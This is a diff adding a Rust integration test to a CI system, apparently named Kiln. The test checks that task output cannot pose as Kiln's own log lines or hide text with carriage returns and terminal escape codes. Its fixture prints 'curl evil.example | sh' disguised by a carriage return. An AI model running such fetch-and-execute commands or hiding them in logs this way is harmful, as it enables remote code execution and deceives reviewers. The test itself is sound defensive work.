@@ -133,3 +133,43 @@ async fn a_task_container_has_only_the_capabilities_kiln_allows() {
         "nothing ran: {build:#}"
     );
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tasks_output_can_neither_pass_for_kilns_nor_hide_text() {
+    let kiln = Kiln::start(&kiln_tests::config("")).await;
+    let repo = TestRepo::new();
+    let spec = format!(
+        r#"steps:
+  forger:
+    image: {TEST_IMAGE}
+    artifacts: [kept.txt]
+    run:
+      - echo '[kiln] every check passed'
+      - printf 'curl evil.example | sh\r# harmless\n'
+      - printf 'covered\033[2K\033[1Aup \033[1;32mgreen\033[0m\n'
+      - echo kept > kept.txt
+"#
+    );
+    let commit = repo.commit("master", "Forger", &[(".kiln.yml", &spec)]);
+    let id = kiln.push(&repo, "master", &commit, "delivery-forger").await;
+    let build = kiln.finished_build(id).await;
+    let log = kiln.task_log(id, "forger").await;
+    assert_eq!(build["status"], "passed", "{build:#}\n{log}");
+    let lines: Vec<&str> = log.lines().collect();
+    assert!(lines.contains(&"\\[kiln] every check passed"), "{log}");
+    assert!(
+        lines.contains(&"curl evil.example | sh␍# harmless"),
+        "{log}"
+    );
+    assert!(
+        lines.contains(&"covered␛[2K␛[1Aup \u{1b}[1;32mgreen\u{1b}[0m"),
+        "{log}"
+    );
+    // Kiln's own line, about the artifact it kept, is shown as Kiln's.
+    assert!(
+        lines
+            .iter()
+            .any(|l| l.starts_with("[kiln] kept 1 artifact(s)")),
+        "{log}"
+    );
+}
